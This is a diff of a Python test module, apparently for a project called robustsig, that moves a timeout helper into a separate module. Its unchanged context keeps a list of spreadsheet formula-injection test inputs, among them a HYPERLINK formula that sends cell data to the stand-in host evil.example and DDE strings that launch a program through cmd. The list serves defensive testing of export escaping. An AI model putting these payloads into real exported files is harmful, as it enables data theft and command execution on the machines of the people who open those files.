@@ -10,9 +10,7 @@ import csv
 import io
 import math
 import os
-import signal
 import stat
-from contextlib import contextmanager
 from pathlib import Path
 
 import numpy as np
@@ -30,26 +28,12 @@ from robustsig.study.runlog import RunLog
 
 from cli_helpers import run_cli
 from extract_helpers import image_folder, tiny_classifier
+from hang_guard import deadline
 
 pytestmark = pytest.mark.usefixtures("one_thread")
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "'already quoted", "''", "-", "+"]
-
-
-@contextmanager
-def deadline(seconds: int):
-    """Fail (instead of hanging the suite) when the block runs past ``seconds``."""
-    def expired(signum, frame):
-        raise TimeoutError(f"still running after {seconds} s")
-
-    previous = signal.signal(signal.SIGALRM, expired)
-    signal.alarm(seconds)
-    try:
-        yield
-    finally:
-        signal.alarm(0)
-        signal.signal(signal.SIGALRM, previous)
 
 
 def spreadsheet_safe(text: str) -> bool:
